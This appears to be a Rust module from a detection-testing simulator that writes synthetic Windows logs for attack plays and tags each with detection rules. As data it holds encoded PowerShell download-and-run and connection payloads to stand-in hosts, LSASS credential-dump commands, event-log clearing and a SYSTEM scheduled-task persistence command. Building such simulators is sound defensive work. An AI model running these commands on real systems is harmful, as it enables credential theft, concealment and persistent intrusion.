//! On a Windows machine.

use super::super::Scene;
use super::super::source::SourceKind;
use super::super::truth::rules;
use super::super::windows::{
    FileCreated, LogCleared, NetworkConnected, ProcessAccessed, ProcessCreated, ScriptBlock, Shape,
    TaskRegistered,
};
use super::super::world::{Host, User};
use super::{Attack, Step};

const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const PWSH: &str = r"C:\Program Files\PowerShell\7\pwsh.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const LSASS: &str = r"C:\Windows\System32\lsass.exe";

/// UTF-16 in Base64, as PowerShell wants it: two downloads and a connection, to names and addresses that are nobody's.
const PAYLOADS: [&str; 3] = [
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AdQBwAGQAYQB0AGUAcwAuAGUAeABhAG0AcABsAGUALgBpAG4AdgBhAGwAaQBkAC8AYQAnACkA",
    "JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AUwBvAGMAawBlAHQAcwAuAFQAQwBQAEMAbABpAGUAbgB0ACgAJwAxADkAOAAuADEAOAAuADcALgA3ACcALAA0ADQANAAzACkAOwAkAHMAPQAkAGMALgBHAGUAdABTAHQAcgBlAGEAbQAoACkA",
    "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIAAtAFMAbwB1AHIAYwBlACAAaAB0AHQAcAA6AC8ALwB1AHAAZABhAHQAZQBzAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBiACAALQBEAGUAcwB0AGkAbgBhAHQAaQBvAG4AIAAkAGUAbgB2ADoAVABFAE0AUABcAGIALgBlAHgAZQA7ACAAJgAgACQAZQBuAHYAOgBUAEUATQBQAFwAYgAuAGUAeABlAA==",
];
/// Image and how the flag is spelled; all mean `-EncodedCommand`.
const SPELLINGS: [(&str, &str); 5] = [
    (POWERSHELL, "powershell.exe -nop -w hidden -enc "),
    (
        POWERSHELL,
        "powershell.exe -NonInteractive -EncodedCommand ",
    ),
    (POWERSHELL, "powershell -ec "),
    (POWERSHELL, "PowerShell.EXE /W Hidden /E "),
    (PWSH, "pwsh.exe -NoProfile -e "),
];

impl Attack {
    /// Machine, the person at it and the shape of its logs.
    fn machine<'w>(&self, scene: &Scene<'w>) -> (&'w Host, &'w User, Shape) {
        let shape = if self.source == SourceKind::WindowsNested {
            Shape::Nested
        } else {
            Shape::Flat
        };
        let host = scene
            .world
            .any_host(self.target, usize::from(shape == Shape::Nested));
        (host, scene.world.owner(host), shape)
    }

    /// One of `choices`, the same at every step of this attack.
    fn variant<T: Copy>(&self, choices: &[T; 3]) -> T {
        let [first, second, third] = *choices;
        match self.target % 3 {
            0 => first,
            1 => second,
            _ => third,
        }
    }
}

/// The last step of a play.
const fn last(detections: &'static [&'static str]) -> Step {
    Step {
        detections,
        counted: None,
        pause_ms: None,
    }
}

/// A step with another to follow.
const fn then(detections: &'static [&'static str], pause_ms: u32) -> Step {
    Step {
        detections,
        counted: None,
        pause_ms: Some(pause_ms),
    }
}

/// A process started by hand, or by someone else's hand.
fn process<'a>(
    user: Option<&'a User>,
    image: &'a str,
    command: &'a str,
    parent: &'a str,
) -> ProcessCreated<'a> {
    ProcessCreated {
        user,
        image,
        original: image.rsplit('\\').next().unwrap_or(image),
        description: "-",
        product: "-",
        company: "-",
        command,
        number: 0,
        parent,
        parent_command: parent,
    }
}

pub(super) fn encoded_powershell(
    attack: &Attack,
    scene: &mut Scene<'_>,
    out: &mut Vec<u8>,
) -> Step {
    let (host, user, shape) = attack.machine(scene);
    let spelling = attack.target as usize % SPELLINGS.len();
    let (image, start) = SPELLINGS
        .get(spelling)
        .copied()
        .unwrap_or((POWERSHELL, "powershell.exe -enc "));
    match attack.step {
        0 => {
            let command = [start, attack.variant(&PAYLOADS)].concat();
            let parent = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
            process(Some(user), image, &command, parent).write(scene, host, shape, out);
            then(&[rules::ENCODED_POWERSHELL], 700)
        }
        1 => {
            let text =
                "IEX (New-Object Net.WebClient).DownloadString('http://updates.example.invalid/a')";
            ScriptBlock { text, number: 0 }.write(scene, host, shape, out);
            then(&[], 1200)
        }
        _ => {
            let destination = attack.address;
            NetworkConnected {
                user: Some(user),
                image,
                destination,
                port: 80,
            }
            .write(scene, host, shape, out);
            last(&[])
        }
    }
}

pub(super) fn lsass_dump(attack: &Attack, scene: &mut Scene<'_>, out: &mut Vec<u8>) -> Step {
    let (host, _, shape) = attack.machine(scene);
    let comsvcs = attack.target.is_multiple_of(2);
    let image = if comsvcs {
        r"C:\Windows\System32\rundll32.exe"
    } else {
        r"C:\Users\Public\procdump64.exe"
    };
    let file = if comsvcs {
        r"C:\Windows\Temp\report-%.bin"
    } else {
        r"C:\Users\Public\lsass_%.dmp"
    };
    match attack.step {
        0 if comsvcs => {
            let command = attack.variant(&[
                r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 628 C:\Windows\Temp\report.bin full",
                r"rundll32 comsvcs.dll,#24 628 C:\Windows\Temp\report.bin full",
                r"rundll32.exe C:\windows\system32\COMSVCS.dll MiniDumpW 628 C:\Windows\Temp\report.bin full",
            ]);
            process(None, image, command, POWERSHELL).write(scene, host, shape, out);
            then(&[rules::LSASS_COMSVCS], 400)
        }
        0 => {
            let command = attack.variant(&[
                r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp",
                r"procdump64.exe /accepteula /r /mp lsass C:\Users\Public\lsass.dmp",
                r"C:\Users\Public\procdump64.exe -ma -r LSASS.EXE C:\Users\Public\lsass.dmp",
            ]);
            process(None, image, command, CMD).write(scene, host, shape, out);
            then(&[rules::LSASS_PROCDUMP], 400)
        }
        1 => {
            let access = attack.variant(&["0x1fffff", "0x1410", "0x1010"]);
            ProcessAccessed {
                source: image,
                target: LSASS,
                access,
                unbacked: comsvcs,
            }
            .write(scene, host, shape, out);
            then(&[rules::LSASS_ACCESS], 300)
        }
        _ => {
            let number = attack.target % 1000;
            FileCreated {
                user: None,
                image,
                file,
                number,
            }
            .write(scene, host, shape, out);
            last(&[])
        }
    }
}

pub(super) fn log_clearing(attack: &Attack, scene: &mut Scene<'_>, out: &mut Vec<u8>) -> Step {
    let (host, user, shape) = attack.machine(scene);
    match attack.step {
        0 => {
            let command = attack.variant(&[
                "wevtutil.exe cl Security",
                "wevtutil clear-log Security /bu:C:\\Windows\\Temp\\s.evtx",
                "WEVTUTIL.EXE  cl System",
            ]);
            process(
                Some(user),
                r"C:\Windows\System32\wevtutil.exe",
                command,
                CMD,
            )
            .write(scene, host, shape, out);
            then(&[rules::WEVTUTIL_CLEAR], 250)
        }
        _ => {
            LogCleared { user }.write(scene, host, shape, out);
            last(&[rules::SECURITY_LOG_CLEARED])
        }
    }
}

pub(super) fn scheduled_task(attack: &Attack, scene: &mut Scene<'_>, out: &mut Vec<u8>) -> Step {
    let (host, user, shape) = attack.machine(scene);
    let dropped = attack.variant(&[
        r"C:\Users\Public\updater.exe",
        r"C:\ProgramData\cache\svc.exe",
        r"C:\Windows\Temp\telemetry.exe",
    ]);
    match attack.step {
        0 => {
            let image = r"C:\Windows\System32\curl.exe";
            FileCreated {
                user: Some(user),
                image,
                file: dropped,
                number: 0,
            }
            .write(scene, host, shape, out);
            then(&[], 900)
        }
        1 => {
            let start = r#"schtasks.exe /create /f /sc onlogon /rl highest /ru SYSTEM /tn "\Microsoft\Windows\Update Check" /tr "#;
            let command = [start, dropped].concat();
            process(
                Some(user),
                r"C:\Windows\System32\schtasks.exe",
                &command,
                CMD,
            )
            .write(scene, host, shape, out);
            then(&[rules::SCHTASKS_PERSISTENCE], 200)
        }
        _ => {
            let name = r"\Microsoft\Windows\Update Check";
            TaskRegistered {
                user,
                name,
                command: dropped,
            }
            .write(scene, host, shape, out);
            last(&[])
        }
    }
}
